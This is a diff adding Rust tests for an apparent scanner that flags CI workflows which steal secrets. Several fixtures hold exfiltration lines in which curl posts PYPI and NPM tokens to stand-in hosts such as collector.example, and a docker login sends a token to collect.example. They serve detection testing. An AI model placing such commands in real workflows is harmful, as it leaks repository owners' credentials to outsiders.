@@ -224,3 +224,106 @@ fn called_scripts_are_read_at_the_same_commit() {
     let finding = theft(&report);
     assert!(finding.flow.iter().any(|hop| hop.path.unescaped() == "scripts/ci.sh"), "{:#?}", finding.flow);
 }
+
+const CALLS_SCRIPT: &str = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {A: '${{ secrets.PYPI_API_TOKEN }}', B: '${{ secrets.NPM_TOKEN }}'}\n    steps:\n      - run: ./x.sh\n";
+const STEALING_SCRIPT: &str = "#!/bin/bash\ncurl -d \"$A=$B\" https://collector.example/\n";
+
+fn with_script() -> Repository {
+    let repository = Repository::new();
+    repository.write(".github/workflows/ci.yml", CALLS_SCRIPT);
+    repository.write("x.sh", STEALING_SCRIPT);
+    repository.commit("CI");
+    repository
+}
+
+fn harmless(count: usize) -> impl Iterator<Item = String> {
+    (0..count).map(|at| format!("#!/bin/bash\necho {at}\n"))
+}
+
+/// Harmless versions of a called script, however many, do not bury the one that stole.
+#[test]
+fn every_version_of_a_called_script_is_analysed() {
+    let repository = with_script();
+    repository.commit_versions("x.sh", harmless(1_999));
+    let report = scanned(&repository);
+    assert_eq!(theft(&report).secrets.len(), 2);
+    assert!(report.document.complete, "{:?}", report.document.problems);
+}
+
+/// Past the bound nothing is called clean: what is left over is searched coarsely, and the scan is incomplete.
+#[test]
+fn too_many_versions_of_a_called_script_are_a_problem() {
+    let repository = with_script();
+    repository.commit_versions("x.sh", harmless(2_000));
+    let report = scanned(&repository);
+    assert!(!report.document.complete);
+    assert_eq!(report.document.problems.len(), 1);
+    assert_eq!(report.document.problems[0].kind, "over-limit");
+    let finding = &report.document.findings[0];
+    assert_eq!((finding.rule.as_str(), finding.verdict), ("unanalysed-workflow", Verdict::Suspicious));
+    assert_eq!(finding.standing, Standing::CouldRun);
+}
+
+/// What an old version of a script called is looked at, though its newest version calls nothing any more.
+#[test]
+fn what_an_older_script_called_is_analysed_in_every_version() {
+    let repository = with_script();
+    repository.write("x.sh", "#!/bin/bash\n. ./y.sh\n");
+    repository.write("y.sh", STEALING_SCRIPT);
+    repository.commit("Move it");
+    repository.write("y.sh", "#!/bin/bash\necho done\n");
+    repository.commit("Clean up");
+    repository.write("x.sh", "#!/bin/bash\necho done\n");
+    repository.commit("Clean up");
+    let report = scanned(&repository);
+    assert!(theft(&report).flow.iter().any(|hop| ["x.sh", "y.sh"].contains(&hop.path.unescaped())));
+    let holders: Vec<_> = theft(&report).exposures[0].refs.iter().map(|span| span.removed.clone()).collect();
+    assert_eq!(holders.len(), 1);
+    let moved = repository.git(&["rev-parse", "HEAD~1"]);
+    assert_eq!(holders[0].as_ref().map(|moment| moment.commit.as_str()), Some(moved.trim()));
+}
+
+const DAY: i64 = 24 * 3_600;
+
+fn login(host: &str) -> String {
+    format!(
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker login -u x -p \"${{{{ secrets.PYPI_API_TOKEN }}}}\" {host}\n"
+    )
+}
+
+const SEND_ONE: &str = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"${{ secrets.PYPI_API_TOKEN }}\" https://collect.example/\n";
+
+fn verdict_of(report: &Report, path: &str) -> Option<Verdict> {
+    let mine = report.document.findings.iter().filter(|finding| finding.path.unescaped() == path);
+    mine.map(|finding| finding.verdict).max()
+}
+
+/// Two commits dated long ago are a claim; the theft is judged as if they were not there.
+#[test]
+fn claimed_times_excuse_nothing() {
+    let repository = Repository::new();
+    repository.set_clock(1_704_067_200);
+    repository.write(".github/workflows/b.yml", &login("collect.example"));
+    repository.commit("Old");
+    repository.set_clock(1_704_067_200 + 500 * DAY);
+    repository.write(".github/workflows/c.yml", &login("collect.example"));
+    repository.write(".github/workflows/a.yml", SEND_ONE);
+    let head = repository.commit("New");
+    assert_eq!(verdict_of(&scanned(&repository), ".github/workflows/a.yml"), Some(Verdict::Malicious));
+    // Brought by one push, whatever the commits say.
+    let with_times = |times: Vec<(String, i64)>| {
+        scan(&Options {
+            paths: vec![repository.path().to_owned()],
+            push_times: times.into_iter().collect(),
+            ..Options::default()
+        })
+    };
+    let report = with_times(vec![(head.clone(), 1_760_000_000)]);
+    assert_eq!(verdict_of(&report, ".github/workflows/a.yml"), Some(Verdict::Malicious));
+    // Seen by the forge, 30 days apart: an excuse; a second less: none.
+    let old = repository.git(&["rev-parse", "HEAD~1"]).trim().to_owned();
+    for (apart, verdict) in [(30 * DAY, Verdict::Suspicious), (30 * DAY - 1, Verdict::Malicious)] {
+        let report = with_times(vec![(old.clone(), 1_760_000_000), (head.clone(), 1_760_000_000 + apart)]);
+        assert_eq!(verdict_of(&report, ".github/workflows/a.yml"), Some(verdict), "{apart}");
+    }
+}
